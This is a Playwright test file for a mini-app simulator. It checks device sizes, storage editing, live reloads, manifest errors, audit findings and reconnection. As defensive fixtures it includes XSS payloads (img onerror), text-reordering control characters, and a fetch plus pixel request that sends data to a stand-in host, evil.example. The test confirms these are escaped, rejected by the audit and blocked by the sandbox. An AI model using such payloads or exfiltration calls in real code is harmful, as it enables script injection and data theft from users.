/** The simulator while an author works: reloads, faults, findings, the phone, and hostile texts. */
import { rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { FrameLocator, Page } from 'playwright-core';
import { readIssued } from '../../../admin-api/miniapp/sdk/issued-files.ts';
import { untilIs } from '../../support/until.ts';
import { checkScreen } from '../browser/screen.ts';
import { browserSuite } from '../browser/suite.ts';
import { manifest, openPanel, resetView, type World, withSimulator, withSimulatorPage } from './world.ts';

const test = browserSuite('the simulator of an author');

/** Markup, a character that reorders text, and one that drives terminals. */
const HOSTILE = `<img src=x onerror="document.title='hacked'">\u202e\u0007`;
/** In names, which have no control characters. */
const TAG = `<img src=x onerror=alert(1)>`;
const SHOWN = `<img src=x onerror="document.title='hacked'">\\u{202e}\\u{7}`;

const APP = `
const hostile = ${JSON.stringify([...HOSTILE].map((char) => char.charCodeAt(0)))}.map((code) => String.fromCharCode(code)).join('');
console.log('ready', { a: 1 });
console.warn(hostile);
Host.storage.set(hostile, hostile);
Host.ui.toast(hostile);
document.querySelector('h1').textContent = innerWidth + ' x ' + innerHeight;
const dark = matchMedia('(prefers-color-scheme: dark)');
const show = () => { out.textContent = dark.matches ? 'dark' : 'light'; };
dark.addEventListener('change', show);
addEventListener('resize', () => { document.querySelector('h1').textContent = innerWidth + ' x ' + innerHeight; });
show();
`;
const BREAKS = `
fetch('https://evil.example/?' + hostile).catch(() => {});
new Image().src = 'https://evil.example/pixel';
setTimeout(() => { throw new Error('broken on purpose'); });
`;

test('edits, faults and findings while the app runs', () =>
  withSimulator({ 'app.js': APP }, (world) =>
    withSimulatorPage(world, async (page, app) => {
      await app.getByText('390 x 844').waitFor();
      await sizes(page, app);
      await texts(page);
      await edits(world, page, app);
      await faults(world, page, app);
      await hostileNames(world, page, app);
      await reconnects(world, page, app);
      await untilIs(() => page.title(), 'Waypost simulator');
    }),
  ));

async function sizes(page: Page, app: FrameLocator): Promise<void> {
  await page.getByText('Small').click();
  await app.getByText('360 x 640').waitFor();
  await page.getByRole('button', { name: 'Rotate' }).click();
  await app.getByText('640 x 360').waitFor();
  await page.getByText('Tablet').click();
  await app.getByText('1280 x 800').waitFor();
  await page.getByText('Dark', { exact: true }).click();
  await app.getByText('dark', { exact: true }).waitFor();
  await checkScreen(page, 'simulator-tablet-rotated');
  await resetView(page);
  await page.getByRole('button', { name: 'Rotate' }).click();
  await page.getByText('Medium').click();
  await page.getByText('Light', { exact: true }).click();
  await app.getByText('light', { exact: true }).waitFor();
  // Kept by the browser.
  await page.reload();
  await untilIs(() => page.getByLabel('Medium').isChecked(), true);
}

async function texts(page: Page): Promise<void> {
  await page.getByText(SHOWN).first().waitFor();
  await page.getByText('ready {"a":1}').waitFor();
  await checkScreen(page, 'simulator-console');
  await resetView(page);
  await openPanel(page, 'Storage');
  await page.getByRole('button', { name: `Edit ${SHOWN}` }).click();
  await untilIs(() => page.getByLabel('Value', { exact: true }).inputValue(), HOSTILE);
  await page.getByLabel('Value', { exact: true }).fill('tame');
  await checkScreen(page, 'simulator-storage-edit');
  await resetView(page);
  await page.getByRole('button', { name: 'Save' }).click();
  await page.getByText('tame').waitFor();
  await page.getByRole('button', { name: 'Add a key' }).click();
  await page.getByLabel('Key', { exact: true }).fill('large');
  await page.getByLabel('Value', { exact: true }).fill('x'.repeat(1024 * 1024 + 1));
  await page.getByRole('button', { name: 'Save' }).click();
  await page.getByText('The value is longer than 1048576 bytes.').waitFor();
  await page.getByLabel('Value', { exact: true }).fill('small');
  await page.getByRole('button', { name: 'Save' }).click();
  await page.getByRole('button', { name: 'Delete large' }).click();
  await page.getByRole('button', { name: 'Edit large' }).waitFor({ state: 'detached' });
  await page.getByRole('button', { name: 'Delete all' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Delete all' }).click();
  await page.getByText('The app has stored nothing.').waitFor();
}

async function edits({ folder, write }: World, page: Page, app: FrameLocator): Promise<void> {
  write({ 'app.js': APP.replace('innerWidth', '"edited " + innerWidth') });
  await app.getByText('edited 390 x 844').waitFor();
  // As editors that write by rename, and a new folder.
  write({ 'parts/more.js': 'document.querySelector("h1").textContent += " more";' });
  rmSync(join(folder, 'index.html'));
  writeFileSync(
    join(folder, 'index.html'),
    '<!doctype html><html lang="en"><title>T</title><script src="host-sdk.js"></script><h1>renamed</h1><pre id="out"></pre>' +
      '<script src="app.js"></script><script src="parts/more.js"></script></html>',
  );
  await app.getByText('edited 390 x 844 more').waitFor();
  write({ 'parts/more.js': 'document.querySelector("h1").textContent += " again";' });
  await app.getByText('edited 390 x 844 again').waitFor();
  await page.getByRole('button', { name: 'Audit: approved' }).waitFor();
}

async function faults({ write, folder }: World, page: Page, app: FrameLocator): Promise<void> {
  write({ 'app.js': APP + BREAKS });
  await page.getByRole('button', { name: 'Audit: rejected' }).click();
  await page.getByRole('heading', { name: 'app.js' }).waitFor();
  await checkScreen(page, 'simulator-findings');
  await resetView(page);
  await openPanel(page, 'Console');
  await page.getByText('Error: broken on purpose').first().waitFor();
  await openPanel(page, 'Sandbox');
  await page.getByText('connect-src').first().waitFor();
  await page.getByText('img-src').first().waitFor();
  await checkScreen(page, 'simulator-sandbox');
  await resetView(page);

  write({ 'manifest.json': manifest().replace('"1.2.3"', '"1.2.3",,') });
  await page.getByText('The app still runs with the last good one.').waitFor();
  await app.getByText('390 x 844').waitFor();
  write({ 'host-sdk.js': '// not the SDK' });
  await page.getByText('host-sdk.js is not an issued SDK').waitFor();
  await checkScreen(page, 'simulator-faults');
  await resetView(page);
  rmSync(join(folder, 'host-sdk.js'));
  await page.getByText('host-sdk.js is missing').waitFor();
  write({ 'manifest.json': manifest({ name: 'Other name' }) });
  await page.getByRole('heading', { name: 'Other name', level: 1 }).waitFor();
  await page.getByText('The manifest has errors.').waitFor({ state: 'detached' });
}

/** What the app chooses, and what its manifest says. */
async function hostileNames({ write }: World, page: Page, app: FrameLocator): Promise<void> {
  write({
    'host-sdk.js': readIssued().script.toString(),
    'manifest.json': manifest({
      name: TAG,
      permissions: ['network', 'background'],
      minHostVersion: '9.0.0',
      background: { enabled: true, entry: 'background.js', events: ['schedule'], permissions: [] },
    }),
    'background.js': `function onBackgroundEvent() { throw new Error(${JSON.stringify(TAG)}); }`,
    'app.js': `Host.background.schedule(${JSON.stringify(TAG)}, 5000).then(() => Host.network.fetch('http://' + ${JSON.stringify(TAG)}))
      .catch(() => Host.network.fetch('http://localhost/?' + encodeURI(${JSON.stringify(TAG)}))).catch(() => { out.textContent = 'done'; });`,
  });
  await page.getByRole('heading', { name: TAG, level: 1 }).waitFor();
  await page.getByText('The app needs version 9.0.0 of the host, and this phone has 1.0.0.').waitFor();
  await page.getByRole('button', { name: 'Allow' }).click();
  await openPanel(page, 'Background');
  await page.getByRole('button', { name: `Run now: ${TAG}` }).click();
  await page.locator('pre').getByText(TAG).waitFor();
  await page.getByRole('button', { name: 'Allow' }).click();
  await app.getByText('done').waitFor();
  await openPanel(page, 'Network');
  await page.getByText('The host has no public address').waitFor();
  await page.getByRole('tab', { name: 'Network' }).press('ArrowRight');
  await page.getByRole('tab', { name: 'Background', selected: true }).waitFor();
}

/** The command is stopped, and started again. */
async function reconnects(world: World, page: Page, app: FrameLocator): Promise<void> {
  const { url } = world.simulator;
  await world.simulator.close();
  await page.getByText('"waypost pkg dev" has stopped.').waitFor();
  world.write({ 'app.js': "out.textContent = 'started again';" });
  await world.restart({ port: Number(new URL(url).port) });
  await app.getByText('started again').waitFor();
  await page.getByText('"waypost pkg dev" has stopped.').waitFor({ state: 'detached' });
}

test.run();
